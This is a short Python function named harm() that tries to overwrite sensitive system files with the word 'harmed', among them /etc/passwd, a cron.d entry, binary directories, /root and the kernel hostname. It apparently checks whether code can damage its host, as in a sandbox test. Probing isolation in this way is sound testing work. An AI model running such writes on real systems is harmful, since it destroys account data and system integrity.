def harm():
    done = False
    for path in ("/etc/passwd", "/etc/cron.d/x", "/usr/local/bin/x", "/usr/bin/x", "/root/x",
                 "/var/tmp/x", "/opt/x", "/x", "/proc/sys/kernel/hostname"):
        try:
            open(path, "w").write("harmed")
            done = True
        except OSError:
            continue
    return done
